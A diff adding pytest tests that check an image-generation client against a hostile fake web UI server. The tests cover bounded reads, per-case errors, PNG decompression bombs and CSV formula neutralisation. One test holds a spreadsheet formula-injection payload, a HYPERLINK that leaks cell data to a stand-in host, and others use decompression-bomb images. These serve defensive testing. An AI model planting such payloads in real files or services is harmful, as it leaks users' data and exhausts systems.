@@ -187,3 +187,137 @@ def test_protocol_inputs_are_checked_by_name(tmp_path, inputs):
     with pytest.raises(protocol.ProtocolError, match="broken.png"):
         protocol.b64_image(identities / "broken.png")
     assert base64.b64decode(protocol.b64_image(identities / "eileen.png"))[:4] == b"\x89PNG"
+
+
+# hostile or odd answers: bounded reads, one case's error, no formulas in the CSV ---------------------------------
+class OddWebui(ThreadingHTTPServer):
+    """Answers txt2img with `image` (base64) and the score route with `score` (raw bytes), whatever they hold."""
+
+    def __init__(self, image: str, score: bytes) -> None:
+        super().__init__(("127.0.0.1", 0), OddHandler)
+        self.image, self.score, self.scored = image, score, 0
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server_address[1]}"
+
+
+class OddHandler(BaseHTTPRequestHandler):
+    server: OddWebui
+
+    def log_message(self, *args) -> None:
+        pass
+
+    def do_POST(self) -> None:  # noqa: N802 - http.server's name
+        self.rfile.read(int(self.headers["Content-Length"]))
+        if self.path == "/sdapi/v1/txt2img":
+            data = json.dumps({"images": [self.server.image]}).encode()
+        else:
+            self.server.scored += 1
+            data = self.server.score
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+
+@pytest.fixture
+def odd_webui(astronaut):  # noqa: F811
+    servers = []
+
+    def start(score: bytes, image: str | None = None) -> OddWebui:
+        server = OddWebui(image or _b64(astronaut), score)
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        servers.append(server)
+        return server
+
+    yield start
+    for server in servers:
+        server.shutdown()
+        server.server_close()
+
+
+def _b64(image) -> str:
+    import io
+
+    buffer = io.BytesIO()
+    image.save(buffer, format="PNG")
+    return base64.b64encode(buffer.getvalue()).decode()
+
+
+def _run(server: OddWebui, inputs, out) -> object:
+    identities, poses, prompts = inputs
+    return run(RunConfig(api=server.url, identities=identities, poses=poses, prompts=prompts, out=out, seeds=[7],
+                         steps=[4], progress=False))
+
+
+@pytest.mark.parametrize("score", [b'{"units": [5]}', b'{"units": "x"}', b"[1, 2]", b"not json", b'{"units": []}'])
+def test_an_odd_score_answer_is_that_case_s_error_and_the_run_goes_on(odd_webui, inputs, tmp_path, score):
+    server = odd_webui(score)
+    result = _run(server, inputs, tmp_path / "out")
+    assert (result.generated, result.failed) == (0, 4) and server.scored == 4  # every case tried
+    rows = table.read_rows(tmp_path / "out" / "scores.csv")
+    assert len(rows) == 4 and all(row["error"] for row in rows)
+
+
+def test_server_strings_never_reach_the_csv_as_formulas(odd_webui, inputs, tmp_path):
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A1, "click")'
+    answer = {"units": [{"unit": 0, "face_found": formula, "identity_similarity": "-1+2", "head_fitted": "@SUM(1)",
+                         "errors": {"shape": "\tx"}, "rotation": {"yaw_deg": "\r=1"}}]}
+    server = odd_webui(json.dumps(answer).encode())
+    _run(server, inputs, tmp_path / "out")
+    import csv
+
+    with open(tmp_path / "out" / "scores.csv", newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    rows = table.read_rows(tmp_path / "out" / "scores.csv")  # read back as the server sent them
+    assert {row["face_found"] for row in rows} == {formula} and {row["yaw_deg"] for row in rows} == {"\r=1"}
+    assert table.done_keys(rows) == {table.row_key(row) for row in rows}  # resumable: keys survive the round trip
+
+
+def test_numbers_stay_numbers_in_the_csv(tmp_path):
+    path = tmp_path / "scores.csv"
+    table.append_row(path, {"identity": "-x", "prompt_index": 0, "condition": "c", "seed": -1, "strength": -0.5,
+                            "pose_only": 0.0, "sampler": "", "steps": 4, "yaw_deg": -3.25})
+    text = path.read_text(encoding="utf-8").splitlines()[1]
+    assert text.startswith("'-x,0,c,-1,-0.5,0,") and ",-3.25," in text
+    row = table.read_rows(path)[0]
+    assert row["identity"] == "-x" and table.number(row, "yaw_deg") == -3.25
+
+
+def test_an_answer_over_the_bound_is_not_read_whole(odd_webui, monkeypatch):
+    from caphuman_ext.quality import webui_client
+
+    server = odd_webui(json.dumps({"units": [], "padding": "x" * 2_000_000}).encode())
+    reads = []
+    real = webui_client.urllib.request.urlopen
+
+    def counting(*args, **kwargs):
+        response = real(*args, **kwargs)
+        original = response.read
+        response.read = lambda amount=None: reads.append(amount) or original(amount)
+        return response
+
+    monkeypatch.setattr(webui_client.urllib.request, "urlopen", counting)
+    client = webui_client.Webui(server.url, max_answer_bytes=100_000)
+    with pytest.raises(webui_client.WebuiError, match="over 100,000 bytes") as error:
+        client.score({})
+    assert not error.value.fatal and reads == [100_001]
+
+
+def test_a_huge_image_is_refused_from_its_header(odd_webui, inputs, tmp_path, monkeypatch):
+    from caphuman_ext.quality import webui_client
+    from tests.test_api import png_bomb
+
+    bomb = base64.b64encode(png_bomb(13_300)).decode()  # 176.9 MP: under Pillow's own 2 × 89 MP refusal
+    with pytest.raises(webui_client.WebuiError, match="13300×13300"):
+        webui_client.decode_answer_image(bomb, "/sdapi/v1/txt2img")
+    monkeypatch.setattr(webui_client, "MAX_IMAGE_PIXELS", 1_000_000, raising=False)
+    monkeypatch.setattr(webui_client.decode_answer_image, "__defaults__", (1_000_000,), raising=False)
+    server = odd_webui(b'{"units": []}', image=base64.b64encode(png_bomb(3000)).decode())
+    result = _run(server, inputs, tmp_path / "out")
+    rows = table.read_rows(tmp_path / "out" / "scores.csv")
+    assert result.failed == 4 and server.scored == 0
+    assert all("3000×3000" in row["error"] for row in rows)
